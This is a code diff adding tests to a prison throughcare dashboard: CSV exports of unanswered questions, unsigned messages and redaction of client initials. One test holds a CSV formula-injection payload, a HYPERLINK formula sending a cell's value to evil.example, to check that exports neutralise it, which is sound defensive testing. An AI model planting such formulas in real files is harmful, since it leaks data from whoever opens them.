@@ -14,7 +14,7 @@ from sqlalchemy import select
 from dashboard.labels import day
 from tests.dashboard.conftest import Dashboard
 from throughcare import induction, reports, review, store
-from throughcare.models import AuditEvent, Role
+from throughcare.models import AuditEvent, GuidanceQuery, Role, week_of
 from throughcare.reports import Period, QueryFilter, Report
 
 
@@ -137,3 +137,79 @@ def test_managers_see_their_teams_induction_progress(dashboard: Dashboard) -> No
         download = client.get("/reports/induction.csv").content.decode("utf-8-sig")
     assert all(str(value) in page for value in row)
     assert download == expected.csv()
+
+
+def _log(dashboard: Dashboard, staff_id: int | None, text: str, answer: str, hour: int, fell_back: bool) -> None:
+    when = dt.datetime.combine(dashboard.today, dt.time(hour, 59), tzinfo=dt.timezone.utc)
+    with dashboard.db.transaction() as transaction:
+        transaction.add(
+            GuidanceQuery(
+                at=when,
+                week=week_of(when),
+                staff_id=staff_id,
+                text=text,
+                answer=answer,
+                intent="nlu_fallback" if fell_back else "ask_next_steps",
+                topic="nlu_fallback" if fell_back else "ask_next_steps",
+                fell_back=fell_back,
+                action="action_x",
+            )
+        )
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+
+
+def test_a_formula_typed_into_a_question_downloads_as_text(dashboard: Dashboard) -> None:
+    _log(dashboard, None, FORMULA, "", 20, True)
+    _log(dashboard, dashboard.practitioner_id, "@SUM(1+1)*cmd", "", 20, True)
+    with dashboard.client(dashboard.manager_id) as client:
+        staff = client.get("/reports/unanswered.csv").content.decode("utf-8-sig")
+        everyone = client.get("/reports/unanswered.csv", params={"asked_by": "anyone"}).content.decode("utf-8-sig")
+    cells = {row[0] for row in csv.reader(io.StringIO(everyone))}
+    assert "'" + FORMULA.lower() in cells and "'@sum(1+1)*cmd" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    # The unsigned message is not among the staff's unanswered questions.
+    staff_cells = {row[0] for row in csv.reader(io.StringIO(staff))}
+    assert "'@sum(1+1)*cmd" in staff_cells and "'" + FORMULA.lower() not in staff_cells
+
+
+def test_unsigned_messages_are_shown_apart_from_the_staff_figures(dashboard: Dashboard) -> None:
+    db, today = dashboard.db, dashboard.today
+    _log(dashboard, None, "what's next for A1234BC?", "", 21, False)
+    _log(dashboard, None, "wifi password", "", 21, True)
+    default = QueryFilter(Period.weeks_to(today, 12))
+    unsigned = reports.unsigned_queries(db, default)
+    week, count, _fell_back = unsigned.rows[-1]
+    assert week == week_of(dt.datetime.combine(today, dt.time(12), tzinfo=dt.timezone.utc)) and count >= 2
+    with dashboard.client(dashboard.manager_id) as client:
+        page = html.unescape(client.get("/").text)
+        assert "Messages not signed by staff" in page
+        for row_week, row_count, row_fell_back in unsigned.rows:
+            assert (
+                f'<td>{day(row_week)}</td><td class="number">{row_count}</td><td class="number">{row_fell_back}</td>'
+                in page
+            )
+        # The staff figures are the staff's alone: their weekly total leaves the unsigned messages out.
+        (staff_week,) = [r for r in reports.fallback_rate(db, default).rows if r[0] == week]
+        everyone = reports.fallback_rate(db, QueryFilter(default.period, signed=None))
+        assert staff_week[1] == next(r for r in everyone.rows if r[0] == week)[1] - count
+        assert f'<td>{day(week)}</td><td class="number">{staff_week[1]}</td>' in page
+        sunday = min(week + dt.timedelta(days=6), default.period.end)
+        listed = html.unescape(client.get(f"/queries?from={week}&to={sunday}&asked_by=unsigned").text)
+    assert f"{count} question{'' if count == 1 else 's'} from" in listed
+    assert listed.count("(not signed in)") == min(count, 50)
+
+
+def test_answers_show_clients_by_prison_number_without_initials(dashboard: Dashboard) -> None:
+    answer = "Next for A1234BC (JS): the initial assessment is overdue. Also due for B2345CD (KL) on Friday."
+    _log(dashboard, dashboard.practitioner_id, "whats next for A1234BC", answer, 23, False)
+    with dashboard.client(dashboard.manager_id) as client:
+        page = html.unescape(client.get("/queries").text)
+    assert "Next for A1234BC: the initial assessment is overdue. Also due for B2345CD on Friday." in page
+    assert "(JS)" not in page and "(KL)" not in page
+    assert (
+        "Personal data on these pages: staff members' names and teams, and each question word for word as staff "
+        "typed it. Clients appear by prison number only, where a question or an answer names one; the assistant's "
+        "answers are shown without clients' initials."
+    ) in page
